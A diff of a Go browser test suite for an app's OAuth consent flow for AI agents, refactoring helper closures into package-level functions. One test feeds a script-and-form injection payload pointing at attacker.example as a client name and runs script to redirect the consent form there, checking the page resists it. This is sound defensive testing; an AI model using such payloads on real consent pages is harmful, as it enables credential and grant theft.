@@ -49,40 +49,9 @@ var _ = Describe("An agent", Ordered, func() {
 		}
 	})
 
-	// consent returns the URL that the agent sends the user to.
-	consent := func(name, redirect string) string {
-		GinkgoHelper()
-		body, err := json.Marshal(map[string]any{"client_name": name, "redirect_uris": []string{redirect}, "token_endpoint_auth_method": "none"})
-		must(err)
-		response, err := http.Post(herald().Site()+"/oauth/register", "application/json", strings.NewReader(string(body)))
-		must(err)
-		defer response.Body.Close()
-		Expect(response).To(HaveHTTPStatus(http.StatusCreated))
-		var client struct {
-			ID string `json:"client_id"`
-		}
-		must(json.NewDecoder(response.Body).Decode(&client))
-		return herald().Site() + "/oauth/authorize?" + url.Values{
-			"client_id": {client.ID}, "redirect_uri": {redirect}, "response_type": {"code"}, "state": {"s-1"}, "scope": {"read draft publish"},
-			"code_challenge": {challenge}, "code_challenge_method": {"S256"}, "resource": {herald().Site() + "/mcp"},
-		}.Encode()
-	}
-
-	// loopback is a client that listens on this machine.
-	loopback := func() (redirect string, answers *[]url.Values) {
-		answers = &[]url.Values{}
-		client := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-			*answers = append(*answers, r.URL.Query())
-			w.Header().Set("Content-Type", "text/html; charset=utf-8")
-			write(w, `<!doctype html><html lang="en"><title>Back</title><link rel="icon" href="data:,"><h1>Back</h1>`)
-		}))
-		DeferCleanup(client.Close)
-		return client.URL + "/callback", answers
-	}
-
 	It("asks for consent on an accessible page", func() {
 		redirect, answers := loopback()
-		must(page.OpenCold(consent("Fit for everyone", redirect)))
+		must(page.OpenCold(consentAddress("Fit for everyone", redirect)))
 		expectLight(page)
 		inEveryLook(page, "consent")
 		must(page.WaitText("127.0.0.1"))
@@ -99,14 +68,14 @@ var _ = Describe("An agent", Ordered, func() {
 
 	It("receives a denial", func() {
 		redirect, answers := loopback()
-		must(page.Open(consent("Refused", redirect)))
+		must(page.Open(consentAddress("Refused", redirect)))
 		must(web.DenyAgent(page))
 		Expect((*answers)[0]).To(And(HaveKeyWithValue("error", []string{"access_denied"}), Not(HaveKey("code"))))
 	})
 
 	It("cannot embed the consent page", func() {
 		redirect, _ := loopback()
-		inside := consent("In a frame", redirect)
+		inside := consentAddress("In a frame", redirect)
 		frame := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
 			w.Header().Set("Content-Type", "text/html; charset=utf-8")
 			write(w, `<!doctype html><html lang="en"><title>Frame</title><link rel="icon" href="data:,"><h1>Win</h1><iframe title="win" src="`+
@@ -146,7 +115,7 @@ var _ = Describe("An agent", Ordered, func() {
 	})
 
 	It("cannot inject a script or form into the consent page", func() {
-		must(page.Open(consent(`<script>document.title="no"</script><form action="https://attacker.example"><button>Allow</button></form>`, cursor)))
+		must(page.Open(consentAddress(`<script>document.title="no"</script><form action="https://attacker.example"><button>Allow</button></form>`, cursor)))
 		Expect(page.Get("button", "Allow").Count()).To(Equal(1), "names are shown as text")
 		Expect(page.Problems()).To(BeEmpty())
 		_, err := chrome.Eval[any](page, `(() => { const form = document.querySelector("form[action='/oauth/authorize']"); form.action = "https://attacker.example/"; form.submit(); })()`)
@@ -157,7 +126,7 @@ var _ = Describe("An agent", Ordered, func() {
 
 	It("is listed with its permissions, and can be revoked", func() {
 		redirect, answers := loopback()
-		address := consent("To be ended", redirect)
+		address := consentAddress("To be ended", redirect)
 		must(page.Open(address))
 		must(web.ChooseLevel(page, web.MayDraft))
 		must(web.AllowAgent(page))
@@ -177,7 +146,7 @@ var _ = Describe("An agent", Ordered, func() {
 
 	// Keep this spec last: the browser asks whether it may open the application, and accepts no more clicks.
 	It("receives the redirect as an application on the user's machine", func() {
-		must(page.Open(consent("An editor", cursor)))
+		must(page.Open(consentAddress("An editor", cursor)))
 		must(page.WaitText("cursor:"))
 		must(web.ChooseLevel(page, web.MayRead))
 		must(page.Get("button", "Allow").Click())
@@ -187,6 +156,37 @@ var _ = Describe("An agent", Ordered, func() {
 		}
 	})
 })
+
+// consentAddress registers a client and returns the URL that it sends the user to.
+func consentAddress(name, redirect string) string {
+	GinkgoHelper()
+	body, err := json.Marshal(map[string]any{"client_name": name, "redirect_uris": []string{redirect}, "token_endpoint_auth_method": "none"})
+	must(err)
+	response, err := http.Post(herald().Site()+"/oauth/register", "application/json", strings.NewReader(string(body)))
+	must(err)
+	defer response.Body.Close()
+	Expect(response).To(HaveHTTPStatus(http.StatusCreated))
+	var client struct {
+		ID string `json:"client_id"`
+	}
+	must(json.NewDecoder(response.Body).Decode(&client))
+	return herald().Site() + "/oauth/authorize?" + url.Values{
+		"client_id": {client.ID}, "redirect_uri": {redirect}, "response_type": {"code"}, "state": {"s-1"}, "scope": {"read draft publish"},
+		"code_challenge": {challenge}, "code_challenge_method": {"S256"}, "resource": {herald().Site() + "/mcp"},
+	}.Encode()
+}
+
+// loopback starts a client that listens on this machine, until the spec ends.
+func loopback() (redirect string, answers *[]url.Values) {
+	answers = &[]url.Values{}
+	client := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		*answers = append(*answers, r.URL.Query())
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		write(w, `<!doctype html><html lang="en"><title>Back</title><link rel="icon" href="data:,"><h1>Back</h1>`)
+	}))
+	DeferCleanup(client.Close)
+	return client.URL + "/callback", answers
+}
 
 // redeem exchanges a code for tokens, as the client does. Only this exchange stores the grant.
 func redeem(authorize, redirect, code string) {
